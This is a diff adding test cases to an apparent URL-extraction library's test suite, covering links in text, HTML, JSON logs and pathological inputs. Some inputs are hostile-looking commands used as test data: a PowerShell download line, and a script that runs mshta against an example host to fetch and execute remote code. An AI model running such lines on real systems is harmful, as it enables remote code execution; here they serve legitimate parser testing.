@@ -302,6 +302,49 @@ describe("links in a plain text", () => {
     ["Put it into /srv/www/a.txt, // see below, and/or ... 1,2,3 x=1;y=2 → end"],
     ["http://intranet. The next one, or http://localhost. It works", "http://intranet", "http://localhost"],
     ["Open http://intranet.\nIt works", "http://intranet"],
+    // Programs, and logs with escapes or encoded texts.
+    [
+      "$u='https://a.example/x';iwr $u; iwr 'https://b.example/y','https://c.example/z' -o d",
+      ...["https://a.example/x';iwr", "https://a.example/x", "https://b.example/y", "https://c.example/z"]
+    ],
+    [
+      "get('https://a.example/x?id='+id); f('https://b.example/y'.trim())",
+      "https://a.example/x?id='+id",
+      "https://a.example/x?id=",
+      "https://b.example/y'.trim()",
+      "https://b.example/y"
+    ],
+    [
+      'request=https://a.example/?x\\=1 got "https://b.example/?x=1\\u0026y=2" or \\x68ttps\\x3a//c.example/',
+      ...["https://a.example/?x=1", "https://a.example/?x\\=1"],
+      ...["https://b.example/?x=1\\u0026y=2", "https://b.example/?x=1&y=2", "https://c.example/"]
+    ],
+    [
+      "GET /send?text=Pay%20https%3A%2F%2Fa.example%2Fx%20now&cb=https%3A%2F%2Fb.example%2Fy 200",
+      ...["https%3A%2F%2Fa.example%2Fx%20now", "https%3A%2F%2Fa.example%2Fx", "https%3A%2F%2Fb.example%2Fy"]
+    ],
+    // Names of a program are no hosts.
+    [
+      "fetch('https://a.example/u?id='+user.id+'&n='+data.name); $a='https://b.example/x';b.id=3",
+      "https://a.example/u?id='+user.id+'&n='+data.name",
+      "https://a.example/u?id=",
+      "https://b.example/x';b.id=3",
+      "https://b.example/x"
+    ],
+    [
+      "hosts 'https://a.example/x',b.example",
+      "https://a.example/x',b.example",
+      "https://a.example/x",
+      "b.example"
+    ],
+    ["log www.a.example\\u0026b=c", "www.a.example\\u0026b=c"],
+    [
+      "text=https%3A%2F%2Fa.example%2Fx%0Ahttps%3A%2F%2Fb.example%2Fy",
+      "https%3A%2F%2Fa.example%2Fx%0Ahttps%3A%2F%2Fb.example%2Fy",
+      "https%3A%2F%2Fa.example%2Fx",
+      "https%3A%2F%2Fb.example%2Fy"
+    ],
+    ["#HttpOnly_.a.example\tTRUE\n#HttpOnly_www.b.example\tTRUE", "a.example", "www.b.example"],
     ["", ...[]]
   ])("%o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))
 })
@@ -344,6 +387,17 @@ describe("a link that goes on after a line break", () => {
     assert.isTrue(found.at(-1)?.isJoined)
   })
 
+  it("does not replace it if its host is whole", () =>
+    assert.deepStrictEqual(urls("view-source:a.example/x\nabout:b?c=1"), [
+      "view-source:a.example/x",
+      "view-source:a.example/xabout:b?c=1"
+    ]))
+
+  it.each<[text: string, ...urls: ReadonlyArray<string>]>([
+    ["microsoft-edge:https://a.exa\nmple/x1", "microsoft-edge:https://a.example/x1"],
+    ["https://a.example/aGk\n==", "https://a.example/aGk", "https://a.example/aGk=="]
+  ])("is joined in %o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))
+
   it("is not joined with the next field of a contact", () =>
     assert.deepStrictEqual(
       urls(
@@ -359,7 +413,11 @@ describe("a link that goes on after a line break", () => {
     "https://a.example/x\nThanks",
     "https://a.example/x\nhttps://b.example/y",
     "https://a.example/x\n\nnext",
-    "See https://a.example/x.\nmore"
+    "See https://a.example/x.\nmore",
+    "Your parcel: https://www.trelba.com\nA1B2C3D4",
+    "API_URL=https://www.trelba.com\nAPI_ID=abc",
+    "https://a.example/x\n==========",
+    "ATTACH:https://a.example/x\nORGANIZER;CN=Bob:mailto:bob@b.example"
   ])("is not seen in %o", (text) => assert.isTrue(linksIn(text, "text").every(({ isJoined }) => !isJoined)))
 })
 
@@ -522,7 +580,32 @@ describe("links in HTML", () => {
       '<p>https://a.example/1<a href="#2">76</a>// b.name<a href="#b">#</a>',
       ...["https://a.example/1", "b.name"].map((url): [string, string] => [url, url])
     ],
-    ["<style>/* <a> */ @import url(https://no.example/a.css)</style>"]
+    ["<style>/* <a> */ @import url(https://no.example/a.css)</style>"],
+    // It is a line of a log, or closed too late.
+    ...["", `${"z".repeat(300)}</a>`].map((end): [string, ...Array<[string, string]>] => [
+      `body <a href="https://a.example/"> from\nb.example/x ${end}`,
+      ["https://a.example/", `from b.example/x ${end}`.trim().slice(0, 300)],
+      ["b.example/x", "b.example/x"]
+    ]),
+    // Programs and exports.
+    [
+      "<?php header('Location: https://a.example/x'); echo '<form action=\"https://b.example/\">' ?>",
+      ["https://a.example/x", "https://a.example/x"],
+      ["https://b.example/", ""]
+    ],
+    [
+      "<p><ac:body><![CDATA[curl https://a.example/x]]></ac:body>",
+      ["https://a.example/x", "https://a.example/x"]
+    ],
+    ...['\\"', '\\\\\\"', '\\""', "\\'"].map((quote): [string, [string, string]] => [
+      `VALUES ('<a href=${quote}https://a.example/x${quote}>x</a>')`,
+      ["https://a.example/x", "x"]
+    ]),
+    ['<a href="//////////a.example/x">y</a> <a href="//">z</a>', ["https://////////a.example/x", "y"]],
+    [
+      '<script>new ActiveXObject("WScript.Shell").Run("mshta https://a.example/x")</script>',
+      ["https://a.example/x", ""]
+    ]
   ])("%o", (html, ...expected) =>
     assert.deepStrictEqual<ReadonlyArray<readonly [string, string]>>(found(html), expected)
   )
@@ -607,6 +690,29 @@ describe("links in tables and records", () => {
       "https://b.example/y"
     ],
     ['[\n  "trelba-mund.com",\n  "b.example"\n]', "json", "trelba-mund.com", "b.example"],
+    // UTF-8 as exports of Facebook write it, and letters that are no UTF-8.
+    [
+      '{"a":"https://a.example/x\\u00f0\\u009f\\u0098\\u0082","b":"https://b\\u00c3\\u00bccher.example","c":"https://c.example/\\u00e4\\u00f6"}',
+      "json",
+      ...["https://a.example/x", "https://b\u00fccher.example", "https://c.example/\u00e4\u00f6"]
+    ],
+    // Requests of Zeek, Caddy, Traefik and nginx; a page of another host is not one.
+    ...[
+      '{"host":"a.example","uri":"/x?y=1"}',
+      '{"request":{"uri":"/x?y=1","host":"a.example","headers":{}}}',
+      '{"RequestHost":"a.example","RequestPath":"/x?y=1"}',
+      '{"request":"GET /x?y=1 HTTP/1.1","http_host":"a.example","server_name":"_"}',
+      '{"http_host":"a.example","server_name":"_","request":"GET /x?y=1 HTTP/1.1"}'
+    ].map((line): [string, string, ...Array<string>] => [
+      line,
+      "json",
+      "a.example",
+      "http://a.example/x?y=1"
+    ]),
+    ['{"a":{"host":"a.example"},"b":{"path":"/x"}}', "json", "a.example"],
+    // Not the address of a client or server, nor the log that Logstash has read.
+    ['{"host":"192.0.2.7","uri":"/x"}', "json", "192.0.2.7"],
+    ['{"host":"a.example","path":"/var/log/auth.log"}', "json", "a.example"],
     [
       '192.0.2.1 - - [01/Jan/2026:00:00:00 +0000] "GET /x?u=1 HTTP/1.1" 200 12 "https://ref.example/a" "Mozilla/5.0 (compatible; bot/1.0)"',
       "log",
@@ -788,7 +894,15 @@ describe("hostile texts", () => {
     "<![CDATA[",
     "<a srcdoc=",
     'location="',
-    "{a.b|"
+    "{a.b|",
+    "x?y='+",
+    "a.b\\u0026",
+    "https%3A%2F%2Fa.b%20",
+    "<a href=https://a.b>c.d/e ",
+    '"host":"a.b","uri":"/x",',
+    '"\\u00c3\\u00bc.b',
+    "<?php ",
+    'href=\\"a.b'
   ])("of %o take linear time", async (piece) => {
     const text = piece.repeat(LENGTH / piece.length)
     for (const kind of ["text", "html", "csv", "json", "log"] as const)
